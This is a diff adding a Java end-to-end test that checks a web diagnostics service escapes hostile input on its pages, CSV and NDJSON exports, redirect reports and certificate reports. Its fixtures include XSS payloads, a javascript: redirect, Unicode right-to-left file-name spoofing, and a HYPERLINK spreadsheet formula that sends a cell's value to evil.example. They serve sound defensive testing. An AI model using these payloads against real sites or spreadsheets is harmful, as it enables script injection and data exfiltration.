@@ -1,0 +1,247 @@
+package dev.plumbline.e2e.web;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import de.siegmar.fastcsv.reader.CsvReader;
+import de.siegmar.fastcsv.reader.NamedCsvRecord;
+import dev.plumbline.account.AccountAdministration;
+import dev.plumbline.account.EmailAddress;
+import dev.plumbline.account.PasswordHasher;
+import dev.plumbline.account.Plan;
+import dev.plumbline.lab.CertificateSpec;
+import dev.plumbline.lab.TestCa;
+import dev.plumbline.lab.TlsServers;
+import dev.plumbline.support.Await;
+import dev.plumbline.support.CookieClient;
+import dev.plumbline.support.PlainTextAssert;
+import dev.plumbline.support.SampleModule;
+import dev.plumbline.support.ServiceUnderTest;
+import dev.plumbline.support.TestDatabase;
+import io.vertx.core.buffer.Buffer;
+import io.vertx.core.json.JsonObject;
+import java.net.URLEncoder;
+import java.net.http.HttpResponse;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Path;
+import java.util.List;
+import org.jsoup.Jsoup;
+import org.jsoup.nodes.Document;
+import org.junit.jupiter.api.AfterAll;
+import org.junit.jupiter.api.BeforeAll;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.TestInstance;
+import org.junit.jupiter.api.extension.RegisterExtension;
+import org.junit.jupiter.api.io.TempDir;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
+
+/** What lines, servers and certificates say is text in jobs, reports and files alike. */
+@TestInstance(TestInstance.Lifecycle.PER_CLASS)
+class PageEscapingTest {
+    @RegisterExtension
+    static final TestDatabase DATABASE = new TestDatabase();
+
+    private static final String EMAIL = "bold@plumbline.example";
+    private static final String PASSWORD = "a long enough password";
+    private static final String FORMULA = "=HYPERLINK(\"http://evil.example/\"&A1,\"click\")";
+    private static final List<String> LINES =
+            List.of("bad.example", "odd.example", "good.example", SampleModule.HOSTILE, FORMULA);
+
+    private final TlsServers tls = new TlsServers();
+    private ServiceUnderTest service;
+    private CookieClient owner;
+    private String job = "";
+
+    @BeforeAll
+    void start(@TempDir Path folder) {
+        AccountAdministration accounts =
+                new AccountAdministration(DATABASE.open(), new PasswordHasher(DATABASE.vertx()));
+        Await.value(accounts.create(EmailAddress.parse(EMAIL), Plan.PRO, PASSWORD));
+        service = SampleModule.servedBehindAProxy(folder, DATABASE);
+        owner = new CookieClient(service);
+        assertThat(owner.signIn(EMAIL, PASSWORD).statusCode()).isEqualTo(200);
+        HttpResponse<String> created =
+                owner.form("/bulk", "bulk-tool", "made-up", "bulk-lines", String.join("\n", LINES), "label", "x");
+        job = created.headers().firstValue("Location").orElseThrow();
+        Await.until(() -> !page(job).select("[data-over=true]").isEmpty());
+    }
+
+    @AfterAll
+    void stop() {
+        service.close();
+        tls.close();
+    }
+
+    private Document page(String path) {
+        return Jsoup.parse(owner.page(path).body());
+    }
+
+    private static String report(String module, String target) {
+        return "/check/" + module + "/" + URLEncoder.encode(target, StandardCharsets.UTF_8);
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "",
+                "?verdict=fail",
+                "?sort=input&dir=desc",
+                "?sort=kind",
+                "?q=%3Cscript%3E",
+                "/live",
+                "/live?q=%22%3E%3Cimg%20src%3Dx%3E"
+            })
+    void linesAndTheirResultsAreTextInAJob(String part) {
+        Document page = page(job + part);
+
+        PlainTextAssert.isOn(page);
+        assertThat(page.select("#job-lines, #job-state")).hasSize(2);
+    }
+
+    @Test
+    void theTableShowsThemAsTheyAre() {
+        Document page = page(job);
+
+        assertThat(page.select(".lines .input > a, .lines .input > bdi").eachText())
+                .containsExactly("bad.example", "odd.example", "good.example", PlainTextAssert.HOSTILE_SHOWN, FORMULA);
+        assertThat(page.select(".lines .input p").first().text()).isEqualTo("It says " + PlainTextAssert.HOSTILE_SHOWN);
+        assertThat(page.select(".lines tbody tr:nth-child(2) td").eachText()).contains(PlainTextAssert.HOSTILE_SHOWN);
+    }
+
+    @Test
+    void aPlotHasNoLabelButThoseThatTheToolKnows() {
+        Document page = page(job);
+
+        assertThat(page.select(".plot figcaption").eachText()).contains("Verdicts", "Look-up", "Some moment");
+        assertThat(page.select(".plot dt").eachText())
+                .allSatisfy(label -> assertThat(label).matches("Pass|Warning|Fail|No verdict|one|other|[0-9]+"));
+        assertThat(page.select(".plots").text()).doesNotContain("script", "U+202E");
+        assertThat(page.select(".plots title").eachText()).isNotEmpty().allSatisfy(label -> assertThat(label)
+                .matches("[0-9A-Za-z .:]+"));
+    }
+
+    /** Anybody can lure somebody onto an address with anything in it. */
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "/?target=",
+                "/?tool=",
+                "/tools?q=",
+                "/tools/",
+                "/check/http-status/",
+                "/check/made-up/",
+                "/check/",
+                "/check/made-up/good.example?label=",
+                "/check/made-up/good.example?",
+                "/jobs?cursor=",
+                "/jobs/",
+                "/bulk?tool=",
+                "/sign-in?next=",
+                "/account?done=",
+                "/account/keys/",
+                "/"
+            })
+    void whatStandsInAnAddressIsText(String path) {
+        String address = path + URLEncoder.encode(SampleModule.HOSTILE, StandardCharsets.UTF_8);
+        Document page = Jsoup.parse(service.page(
+                        address,
+                        "Accept",
+                        "text/html",
+                        "Cookie",
+                        path.startsWith("/sign-in") ? "none=0" : owner.cookie())
+                .body());
+        // a box holds what was typed, as it was typed
+        page.select("input[value]").removeAttr("value");
+
+        PlainTextAssert.isOn(page);
+        assertThat(page.select("main")).hasSize(1);
+    }
+
+    @Test
+    void whatIsSaidStandsInItsSentenceWithoutABlank() {
+        assertThat(page("/?target=two+words").select("#offers [role=status]").text())
+                .isEqualTo("No tool takes two words: A name cannot hold a space.");
+        assertThat(page("/tools?q=certificate").select("main [role=status]").text())
+                .matches("[0-9]+ tools? with certificate\\. Show all");
+    }
+
+    @Test
+    void theListOfJobsAndTheFormAgainAreText() {
+        PlainTextAssert.isOn(page("/jobs"));
+        Document again = Jsoup.parse(
+                owner.form("/bulk", "bulk-lines", "</textarea><b>" + FORMULA + "\n".repeat(2) + "x".repeat(3000))
+                        .body());
+
+        PlainTextAssert.isOn(again);
+        assertThat(again.select("main b")).isEmpty();
+        assertThat(again.select("#bulk-lines").val()).startsWith("</textarea><b>" + FORMULA);
+    }
+
+    @Test
+    void aCsvFileHasARecordForEachLineAndNoFormula() {
+        HttpResponse<String> file = owner.page(job + "/results.csv");
+        List<NamedCsvRecord> records =
+                CsvReader.builder().ofNamedCsvRecord(file.body()).stream().toList();
+
+        isADownload(file, ".csv");
+        assertThat(records).hasSize(LINES.size());
+        assertThat(records.get(0).getField("input")).isEqualTo("bad.example");
+        assertThat(records.get(0).getField("text")).isEqualTo(SampleModule.HOSTILE);
+        assertThat(records.get(3).getField("input")).isEqualTo(SampleModule.HOSTILE);
+        assertThat(records.get(4).getField("input")).isEqualTo("'" + FORMULA);
+    }
+
+    @Test
+    void aFileOfJsonLinesHasALineForEachLine() {
+        HttpResponse<String> file = owner.page(job + "/results.ndjson");
+
+        isADownload(file, ".ndjson");
+        assertThat(file.body().lines().map(JsonObject::new).map(line -> line.getString("input")))
+                .containsExactlyElementsOf(LINES);
+        assertThat(file.body()).doesNotContain("\u0007");
+    }
+
+    private void isADownload(HttpResponse<String> file, String ending) {
+        assertThat(file.headers().firstValue("Content-Disposition"))
+                .contains("attachment; filename=\"" + job.substring("/jobs/".length()) + ending + "\"");
+        assertThat(file.headers().firstValue("X-Content-Type-Options")).contains("nosniff");
+        assertThat(file.headers().firstValue("Content-Type").orElse("")).doesNotContain("html");
+    }
+
+    @Test
+    void whereAServerSendsSomebodyIsText() {
+        String place = "/\u202egnp.<script>alert(1)</script>\"'><img/src=x/onerror=alert(2)>";
+        int port =
+                tls.answer(Buffer.buffer("HTTP/1.1 302 Found\r\nServer: <b>\"'\u0007\r\nLocation: javascript:alert(1)//"
+                                + place
+                                + "\r\nContent-Type: text/html<script>\r\nContent-Length: 0\r\n"
+                                + "Connection: close\r\n\r\n")
+                        .getBytes());
+        int other = tls.answer(Buffer.buffer("HTTP/1.1 302 Found\r\nLocation: http://127.0.0.1:"
+                        + port
+                        + place
+                        + "\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
+                .getBytes());
+
+        Document page = page(report("http-status", "http://127.0.0.1:" + other + "/"));
+
+        PlainTextAssert.isOn(page);
+        assertThat(page.select("main [href]").eachAttr("href"))
+                .allSatisfy(href -> assertThat(href).doesNotStartWith("javascript:"));
+        assertThat(page.select("#field-redirects .path > li").size()).isPositive();
+    }
+
+    @Test
+    void namesInACertificateAreText() {
+        String name = "<script>alert(1)</script>\u202egnp.exe\u0007";
+        int port = tls.serve(
+                TestCa.selfSigned(
+                        CertificateSpec.commonNameOnly(name.replace("<", "\\<").replace(">", "\\>"))),
+                TlsServers.Manner.PLAIN);
+
+        Document page = page(report("ssl-certificate", "127.0.0.1:" + port));
+
+        PlainTextAssert.isOn(page);
+        assertThat(page.select("main").text()).contains("<script>alert(1)</script>[U+202E]gnp.exe[U+0007]");
+    }
+}
